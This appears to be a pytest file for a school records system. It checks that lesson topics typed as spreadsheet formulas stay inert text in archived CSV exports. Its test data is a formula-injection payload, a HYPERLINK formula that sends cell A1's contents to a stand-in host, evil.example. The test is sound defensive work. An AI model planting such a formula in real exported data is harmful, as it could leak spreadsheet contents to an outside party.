"""The year archive's CSV files are formula-safe too: a topic a teacher typed as a formula
stays text when the archive's CSV is opened in a spreadsheet (issue 16)."""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

from backup.archive.verify import extract_archive
from node.config import NodeConfig
from tests.backup.test_archive import write_archive

TOPIC = '=HYPERLINK("http://evil.example/?"&A1;"Повторение")'


def test_a_formula_typed_as_a_topic_stays_text_in_the_archive_csv(node: NodeConfig, tmp_path: Path):
    with sqlite3.connect(node.database_path) as conn:
        changed = conn.execute(
            "UPDATE lesson SET topic = ? WHERE id = (SELECT id FROM lesson ORDER BY date LIMIT 1)",
            (TOPIC,),
        ).rowcount
    assert changed == 1
    out = tmp_path / "records"
    out.mkdir()
    bag = extract_archive(write_archive(node, out).path, out)
    cells = [
        cell
        for path in sorted((bag / "data" / "csv").rglob("*-lessons.csv"))
        for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";")
        for cell in row
    ]
    assert "'" + TOPIC in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
